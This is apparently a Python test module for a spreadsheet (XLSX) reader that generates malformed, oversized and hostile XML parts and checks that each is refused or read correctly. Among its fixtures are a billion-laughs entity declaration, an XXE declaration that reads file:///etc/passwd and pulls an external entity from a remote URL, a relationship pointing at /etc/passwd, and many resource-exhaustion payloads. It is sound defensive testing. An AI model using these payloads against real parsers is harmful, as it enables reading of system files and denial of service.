"""XML that is made to do harm, damaged, or unusual."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator
from functools import partial

from support.filings import FORM, LAYOUT
from support.hostile_case import (
    CELL,
    NAME,
    OTHER_CELL,
    ROW,
    SHEET,
    ZERO,
    Case,
    at,
    book,
    good_parts,
    harmless,
    refused,
    text_cell,
    wrong,
)
from support.hostile_cells import shared_text
from support.packing import (
    RELATIONS,
    ROOT_RELATIONS,
    STRINGS,
    STYLES,
    WORKBOOK,
    Edit,
    Parts,
    added,
    instead_of,
    part_of,
    put,
    put_in_format,
    removed,
    replaced,
    rewritten,
)
from xlreport.layout import column_name

MIB = 1 << 20
PART = part_of(good_parts(), SHEET)
IDENTITY = part_of(good_parts(), LAYOUT.identity)
# One part of each kind that is read, and how it is named in a case.
KINDS = {
    ROOT_RELATIONS: "package relations",
    WORKBOOK: "workbook",
    RELATIONS: "workbook relations",
    STRINGS: "strings",
    STYLES: "styles",
    PART: "sheet",
    IDENTITY: "identity sheet",
}
SHEETS = (PART, IDENTITY)
UNREAD = "docProps/core.xml"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BROKEN = ("XML-BROKEN", "")
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
ABROAD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://a.cn/"> %y;]>'


def cases() -> Iterator[Case]:
    """Every way for the XML of a workbook to be hostile, broken or odd."""
    for part in KINDS:
        yield from _declarations(part)
        yield from _damage(part)
    yield from _not_well_formed()
    yield from _too_much()
    yield from _multiplying()
    yield from _odd_but_right()


def declared(text: str, declaration: str) -> str:
    """XML with a declaration behind its first line."""
    return re.sub(r"^<\?xml.*?\?>\s*", lambda match: match[0] + declaration, text, count=1)


def in_utf_16(part: str, declaration: str = "") -> Edit:
    """Writes a part in UTF-16, perhaps with a declaration."""

    def edit(parts: Parts) -> None:
        text = declared(parts[part].decode(), declaration).replace('encoding="UTF-8"', 'encoding="UTF-16"')
        parts[part] = text.encode("utf-16")

    return edit


def inside(part: str, xml: str) -> Edit:
    """Puts XML at the end of a part's outermost element."""
    return rewritten(part, lambda text: re.sub(r"(</[\w:]+>)\s*$", lambda match: xml + match[1], text))


def _declarations(part: str) -> Iterator[Case]:
    kind = KINDS[part]
    for name, declaration in {"entities": LAUGHS, "foreign entities": ABROAD, "a DOCTYPE": "<!DOCTYPE a>"}.items():
        for coding, edit in {
            "UTF-8": rewritten(part, partial(declared, declaration=declaration)),
            "UTF-16": in_utf_16(part, declaration),
        }.items():
            yield refused(f"{kind} with {name} in {coding}", partial(book, edit), "XML-DOCTYPE", part)
    yield harmless(f"{kind} in UTF-16", in_utf_16(part))


def _damage(part: str) -> Iterator[Case]:
    kind, content = KINDS[part], good_parts()[part]
    broken = "SHEET-DAMAGED" if part in SHEETS else "XML-BROKEN"
    for name, data in {
        "cut off in the middle": content[: len(content) // 2],
        "cut off at the end": content[:-1],
        "of nothing": b"",
        "of noise": random.Random(1).randbytes(5000),
        "of zeros": bytes(5000),
        "of half a letter in UTF-16": b"\xff\xfe<",
        "with something behind": content + b"<x/>",
    }.items():
        yield refused(f"{kind} {name}", partial(book, added(part, data)), broken)
    yield refused(f"{kind} too deep", lambda: book(inside(part, "<d>" * 64 + "</d>" * 64)), "XML-DEPTH", part)
    yield harmless(f"{kind} deep", inside(part, "<d xmlns='x'>" + "<d>" * 62 + "</d>" * 62 + "</d>"))
    if part == ROOT_RELATIONS:
        yield harmless(f"{kind} missing", removed(part))
    elif part == WORKBOOK:
        yield refused(f"{kind} missing", lambda: book(removed(part)), "NOT-XLSX")
    else:
        code = "PART-DAMAGED" if part in (STRINGS, STYLES) else "SHEET-DAMAGED"
        yield refused(f"{kind} missing", lambda: book(removed(part)), code)


def _not_well_formed() -> Iterator[Case]:
    yield harmless("unread part with entities", rewritten(UNREAD, lambda text: declared(text, LAUGHS)))
    yield harmless("unread part cut off", rewritten(UNREAD, lambda text: text[:50]))
    both = (("SHEET-DAMAGED", ""), ("CELL-FORMULA", OTHER_CELL))
    cut = rewritten(PART, lambda text: text[:-20])
    yield wrong("sheet cut off and a formula on another", cut, put(OTHER_CELL, "<f>1</f>"), findings=both)
    for encoding in ("gbk", "utf-7", "utf-16", "cp037", "rot13", "undefined", "no-such"):
        edit = replaced(PART, 'encoding="UTF-8"', f'encoding="{encoding}"')
        yield wrong(f"sheet that says it is in {encoding}", edit, findings=(("SHEET-DAMAGED", ""),))
    half = added(STRINGS, good_parts()[STRINGS].replace("填".encode(), b"\xe5", 1))
    yield refused("strings with half a character", lambda: book(half), "XML-BROKEN")
    for name, text in {
        "control character": "\x01",
        "noncharacter": "\ufffe",
        "reference to nothing": "&#0;",
        "reference to half a character": "&#xD800;",
        "unknown entity": "&x;",
        "stray bracket": "<",
    }.items():
        edit = replaced(STRINGS, "<t>填报人</t>", f"<t>{text}</t>")
        yield refused(f"strings with a {name}", partial(book, edit), "XML-BROKEN")
    for name, edit in {
        "an unknown prefix": put(CELL, "<y:v>3</y:v>"),
        "an attribute twice": put(CELL, "<v>3</v>", ' t="n" t="n"'),
        "crossed elements": put(CELL, "<v>3</c></v>"),
        "a row of no number": replaced(PART, f'<row r="{ROW}"', '<row r="six"'),
        "a row zero": replaced(PART, f'<row r="{ROW}"', '<row r="0"'),
        "a row of an endless number": replaced(PART, f'<row r="{ROW}"', f'<row r="{"9" * 5000}"'),
        "a cell inside a cell": instead_of(CELL, f'<c r="{NAME}"><v>3</v><c r="Z99"><v>4</v></c></c>'),
        "a cell beside its row": instead_of(CELL, f'</row><c r="{NAME}"><v>3</v></c><row>'),
        "a cell in a row in a row": instead_of(CELL, f'<row r="{ROW}"><c r="{NAME}"><v>3</v></c></row>'),
        "a cell in an extension": instead_of(CELL, f'<extLst><ext><c r="{NAME}"><v>3</v></c></ext></extLst>'),
        "a cell in an extension of a cell": instead_of(CELL, f'<c r="Z99"><ext><c r="{NAME}"><v>3</v></c></ext></c>'),
        "cells after the rows": replaced(PART, "</sheetData>", '</sheetData><ext><c r="Z99"><v>3</v></c></ext>'),
        "a cell in a strange row": instead_of(CELL, '<c r="B11"><v>3</v></c>'),
        "HTML inside": added(PART, b"<html/>"),
        "a chart inside": added(PART, f'<chartsheet xmlns="{MAIN}"/>'.encode()),
        "elements of nobody": rewritten(PART, lambda text: text.replace(f' xmlns="{MAIN}"', "")),
    }.items():
        yield wrong(f"sheet with {name}", edit, findings=(("SHEET-DAMAGED", ""),))
    for name in ("XFE6", "B1048577", "ZZZZ1", "AAAA1", "A0", "6", "B", "B6:C6", "", "$B$6", "В6"):
        edit = instead_of(CELL, f'<c r="{name}"><v>3</v></c>')
        yield wrong(f"cell at {name.replace(':', ' to ') or 'no place'}", edit, findings=(("CELL-BEYOND", ""),))


# -- limits


def _cells(rows: range, columns: range) -> str:
    """Small cells without addresses, in rows with theirs."""
    row = "<c><v>1</v></c>" * len(columns)
    return "".join(f'<row r="{number}">{row}</row>' for number in rows)


def _below(xml: str) -> Edit:
    """Adds rows below all others."""
    return replaced(PART, "</sheetData>", f"{xml}</sheetData>")


def _merges(xml: str) -> Edit:
    return rewritten(PART, lambda text: text.replace("</mergeCells>", f"{xml}</mergeCells>"))


def _too_much() -> Iterator[Case]:
    for name, edit in {
        "50001 cells": _below(_cells(range(100, 600), range(100)) + _cells(range(600, 601), range(1))),
        "5001 rows": _below(_cells(range(100, 5101), range(1))),
        "257 columns": _below(_cells(range(100, 101), range(257))),
        "a cell in column 257": _below('<row r="100"><c r="IW100"><v>1</v></c></row>'),
        "5001 merges": _merges(_pairs(1, 5001)),
        "a million merges": _merges(_pairs(101, 9999)),
        "a merge 100000 times": _merges('<mergeCell ref="A100:B100"/>' * 100_000 + _noise(20_000)),
        "a merge of the whole grid": _merges('<mergeCell ref="A1:XFD1048576"/>'),
        "a merge of the whole grid from below": _merges('<mergeCell ref="A1048576:XFD1"/>'),
        "a merge of 5001 cells": _merges('<mergeCell ref="A100:A5100"/>'),
    }.items():
        yield wrong(f"sheet with {name}", edit, findings=(("TOO-MUCH", ""),))
    for name in ("A:B", "1:2", "XFE1:XFE2", "B", ""):
        edit = _merges(f'<mergeCell ref="{name}"/>')
        yield wrong(f"merge of {name.replace(':', ' to ') or 'nothing'}", edit, findings=(("CELL-BEYOND", ""),))
    beyond = {"merge with an endless name": _merges(f'<mergeCell ref="{"$" * 1000}A100:B100"/>')}
    beyond["cell behind the last column"] = _below('<row r="100"><c r="XFD100"/><c/></row>')
    beyond["row below the last"] = _below('<row r="1048576"/><row><c><v>1</v></c></row>')
    for name, edit in beyond.items():
        yield wrong(name, edit, findings=(("CELL-BEYOND", ""),))
    formats = replaced(STYLES, "</cellXfs>", "<xf/>" * 65_490 + "</cellXfs>")
    yield wrong("65490 more formats", formats, findings=(("TOO-MUCH", ""),))
    misspelt = rewritten(PART, lambda text: text.replace("<mergeCell ", "<mergecell "))
    yield wrong("merges that are misspelt", misspelt, findings=(("MERGE-CHANGED", "二、主动公开!A1"),))
    strings = "".join(f"<si><t>{n}</t></si>" for n in range(50_000))
    yield wrong("50000 more strings", inside(STRINGS, strings), findings=(("TOO-MUCH", ""),))
    many = "".join(f'<definedName name="n{n}">1</definedName>' for n in range(60_001))
    yield wrong("60001 names", inside(WORKBOOK, f"<definedNames>{many}</definedNames>"), findings=(("TOO-MUCH", ""),))
    sheets = "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(20, 120 - len(LAYOUT.sheets)))
    yield wrong("101 sheets", replaced(WORKBOOK, "</sheets>", f"{sheets}</sheets>"), findings=(("TOO-MUCH", ""),))
    for count in ("4294967295", "-1", "many", "99999999999999999999"):
        lie = rewritten(STRINGS, partial(re.sub, r'uniqueCount="\d+"', f'uniqueCount="{count}"'))
        yield harmless(f"strings that say they are {count}", lie)
    for name, edit in {
        "a dimension of the whole grid": rewritten(
            PART, lambda text: re.sub(r'(<dimension ref=)"[^"]*"', r'\1"A1:XFD1048576"', text)
        ),
        "a dimension of one cell": rewritten(PART, lambda text: re.sub(r'(<dimension ref=)"[^"]*"', r'\1"A1"', text)),
        "wrong spans": rewritten(PART, lambda text: re.sub(r'spans="[^"]*"', 'spans="9:2"', text)),
        "a column of the whole width": rewritten(
            PART, lambda text: re.sub("<cols>", '<cols><col min="1" max="16384" width="9"/>', text)
        ),
        "9900 empty rows": _below(_cells(range(100, 10_000), range(0))),
        "90000 blank cells below": _below(f"<row>{'<c/>' * 300}</row>" * 300),
        "a row that is formatted to the end": _below('<row r="100" s="1" customFormat="1"><c r="XFD100" s="1"/></row>'),
        "4900 merges below": _merges(_pairs(1, 4900)),
        "merges of one cell": _merges('<mergeCell ref="A100"/><mergeCell ref="$B$6:$B$6"/>'),
    }.items():
        yield harmless(f"sheet with {name}", edit)


def _pairs(columns: int, rows: int) -> str:
    """Merges of two cells each, below everything else."""
    names = [column_name(n) for n in range(columns)]
    return "".join(
        f'<mergeCell ref="{name}{n}:{name}{n + 1}"/>' for n in range(100, 2 * rows + 100, 2) for name in names
    )


def _noise(length: int) -> str:
    """A comment that hardly shrinks when packed."""
    return f"<!-- {random.Random(1).randbytes(length).hex()} -->"


def _multiplying() -> Iterator[Case]:
    """Small files that grow when they are read, not when they are inflated."""
    master = '<row r="100"><c r="Z100"><f t="shared" ref="A100:Z101" si="5">A1+B1</f><v>1</v></c></row>'
    beyond = '<row r="101"><c r="A101"><f t="shared" si="5"/></c></row>'
    told = (("CELL-OUTSIDE", f"{SHEET}!Z100"), ("TEXT-OUTSIDE", f"{SHEET}!A101"))
    yield wrong("shared formula that leaves the sheet", _below(master + beyond), findings=told)
    long = f'<row r="100"><c r="A100"><f t="shared" ref="A100:A5000" si="5">{"A1+" * 250_000}1</f></c></row>'
    others = "".join(f'<row r="{n}"><c r="A{n}"><f t="shared" si="5"/></c></row>' for n in range(101, 4900))
    yield wrong("shared formula that multiplies", _below(long + others), findings=(("TOO-MUCH", ""),))
    every_cell = tuple(("CELL-BROKEN", at(key)) for key in FORM.inputs)
    yield wrong("text of 3 MiB in every cell", partial(_endless_text, 3 * MIB), findings=every_cell)
    many = " ".join(f'a{n}="{n}"' for n in range(1_100_000))
    wide = (("TOO-MUCH", ""),)
    yield wrong("text of 25 MiB in every cell", partial(_endless_text, 25 * MIB), findings=wide)
    for kind, element in {"elements": "<a{}/>", "attributes": "<a b{}=''/>"}.items():
        names = "".join(element.format(n) for n in range(40_000))
        yield wrong(f"40000 names of {kind}", _below(names), findings=wide)
        yield wrong(f"40000 names of {kind} inside one", _below(f"<y>{names}</y>"), findings=wide)
    prefixes = "".join(f"<a xmlns:p{n}='u'/>" for n in range(40_000))
    yield wrong("40000 prefixes", _below(prefixes), findings=(("SHEET-DAMAGED", ""),))
    yield wrong("comment of 5 MiB", _below(_noise(5 * MIB // 2)), findings=wide)
    yield wrong("element of a million attributes", _below(f"<row {many}/>"), findings=wide)
    yield wrong("sheet of a million elements", _below("<y/>" * 1_000_001 + _noise(40_000)), findings=wide)
    spaced = inside(PART, f'<y xmlns="{"u" * MIB}">{"<y/>" * 100_000}{_noise(20_000)}</y>')
    yield wrong("namespace of 1 MiB on every element", spaced, findings=(("SHEET-DAMAGED", ""),))
    runs = shared_text(text_cell(4), "<r><t>x</t></r>" * 40_000)
    yield harmless("text of 40000 runs", runs, notes=(("TEXT-ERROR", text_cell(4)),))
    riddle = put_in_format(at(ZERO), "<v>0</v>", "[" * 300_000)
    yield wrong("number format that is a riddle", riddle, findings=(("CELL-SEEN", at(ZERO)),))
    yield harmless("60000 cell formats", replaced(STYLES, "</cellXfs>", "<xf/>" * 60_000 + "</cellXfs>"))


def _endless_text(length: int, parts: Parts) -> None:
    """One string of which every input cell has its share, wide because of one wide character."""
    block = random.Random(1).randbytes(150).hex() + "x" * 33_000
    index = parts[STRINGS].count(b"<si>")
    inside(STRINGS, f"<si><t>😀{block * (length // len(block))}</t></si>")(parts)
    for key in FORM.inputs:
        put(at(key), f"<v>{index}</v>", ' t="s"')(parts)


# -- unusual


def _odd_but_right() -> Iterator[Case]:
    """Whatever a spreadsheet application may write: all of it must be read, and be equal."""
    sheets = [name for name in good_parts() if name.startswith("xl/worksheets/")]
    main = (WORKBOOK, STRINGS, STYLES, *sheets)
    yield harmless("strict OOXML", *(rewritten(part, _strict) for part in (*main, RELATIONS, ROOT_RELATIONS)))
    yield harmless("prefixes", *(rewritten(part, _prefixed) for part in (*main, RELATIONS, ROOT_RELATIONS)))
    yield harmless("strict OOXML with prefixes", *(rewritten(part, lambda t: _prefixed(_strict(t))) for part in main))
    yield harmless("references left out", *(rewritten(part, _without_references) for part in sheets))
    yield harmless(
        "single quotes", *(rewritten(part, _in_single_quotes) for part in (*main, RELATIONS, ROOT_RELATIONS))
    )
    yield harmless(
        "blanks between elements", *(rewritten(part, lambda t: re.sub("><(?=[rcv/])", ">\n  <", t)) for part in sheets)
    )
    yield harmless(
        "comments between elements",
        *(rewritten(part, lambda t: t.replace("<c ", "<!-- <c --><?x <c?><c ")) for part in sheets),
    )
    yield harmless("byte order marks", *(rewritten(part, lambda t: "\ufeff" + t) for part in main))
    yield harmless("foreign elements and attributes", *(rewritten(part, _with_foreign_elements) for part in sheets))
    yield harmless(
        "all texts inline", *(_inlined(part) for part in sheets), removed(STRINGS), _unrelated("sharedStrings")
    )
    plain = (rewritten(part, lambda t: re.sub(r' s="\d+"', "", t)) for part in sheets if b' s="' in good_parts()[part])
    yield harmless("no styles", *plain, removed(STYLES), _unrelated("styles"))
    for name, target in {"absolute": "/xl/worksheets/", "roundabout": "../xl/./worksheets/../worksheets/"}.items():
        edit = rewritten(RELATIONS, partial(re.sub, 'Target="worksheets/', f'Target="{target}'))
        yield harmless(f"{name} part names", edit)
    yield harmless(
        "another name for the workbook",
        _renamed(WORKBOOK, "xl/book.xml"),
        _renamed(RELATIONS, "xl/_rels/book.xml.rels"),
    )
    for part, kind in ((STRINGS, "sharedStrings"), (STYLES, "styles")):
        second = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="second.xml"/></Relationships>'
        both = (replaced(RELATIONS, "</Relationships>", second), added("xl/second.xml", good_parts()[part]))
        yield wrong(f"two parts of {kind}", *both, findings=(BROKEN,))
    yield harmless("no word of when it was saved", removed("docProps/core.xml"))
    same_id = '<Relationship Id="rId1" Type="x" Target="y"/></Relationships>'
    yield wrong("two references of one name", replaced(RELATIONS, "</Relationships>", same_id), findings=(BROKEN,))
    outside = replaced(
        RELATIONS, 'Target="worksheets/sheet4.xml"', 'Target="worksheets/sheet4.xml" TargetMode="External"'
    )
    yield wrong("sheet that lies elsewhere", outside, findings=(("SHEET-DAMAGED", ""),))
    nowhere = replaced(RELATIONS, 'Target="worksheets/sheet4.xml"', 'Target="file:///etc/passwd"')
    yield wrong("sheet that is a file of the system", nowhere, findings=(("SHEET-DAMAGED", ""),))


def _strict(text: str) -> str:
    strict = text.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
    return strict.replace(OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships")


def _prefixed(text: str) -> str:
    """The same XML with a prefix for every element that had none."""
    named = re.sub(r"<(/?)(\w+)(?=[\s/>])", r"<\1x:\2", text)
    return re.sub(r" xmlns=", " xmlns:x=", named)


def _in_single_quotes(text: str) -> str:
    return re.sub(r'(?<==)"([^"\']*)"(?=[^<>]*>)', r"'\1'", text)


def _with_foreign_elements(text: str) -> str:
    odd = text.replace("<c ", '<c y:v="4" ').replace("</sheetData>", "</sheetData><y:v>4</y:v><y:f>1+1</y:f>")
    return re.sub("<worksheet ", '<worksheet xmlns:y="urn:y" ', odd)


def _without_references(text: str) -> str:
    """Rows and cells lose their address wherever the one before tells it."""
    row, column = 0, 0

    def shortened(match: re.Match[str]) -> str:
        nonlocal row, column
        if match[1] == "row":
            known, row, column = int(match[2]) == row + 1, int(match[2]), 0
        else:
            number = _column(match[2])
            known, column = number == column + 1, number
        return f"<{match[1]}" if known else match[0]

    return re.sub(r'<(row|c) r="([A-Z]*\d+)"', shortened, text)


def _column(name: str) -> int:
    number = 0
    for letter in name.rstrip("0123456789"):
        number = number * 26 + ord(letter) - 64
    return number


def _inlined(part: str) -> Edit:
    """The same sheet without shared strings."""

    def edit(parts: Parts) -> None:
        strings = re.findall(r"<si>(.*?)</si>", parts[STRINGS].decode(), re.DOTALL)
        text = re.sub(
            r' t="s"><v>(\d+)</v>', lambda m: f' t="inlineStr"><is>{strings[int(m[1])]}</is>', parts[part].decode()
        )
        parts[part] = text.encode()

    return edit


def _unrelated(kind: str) -> Edit:
    """Takes the workbook's reference to a part away."""
    return rewritten(RELATIONS, lambda text: re.sub(rf'<Relationship [^>]*/{kind}"[^>]*/>', "", text))


def _renamed(part: str, name: str) -> Edit:
    def edit(parts: Parts) -> None:
        parts[name] = parts.pop(part)
        parts[ROOT_RELATIONS] = parts[ROOT_RELATIONS].replace(f'"{part}"'.encode(), f'"{name}"'.encode())

    return edit
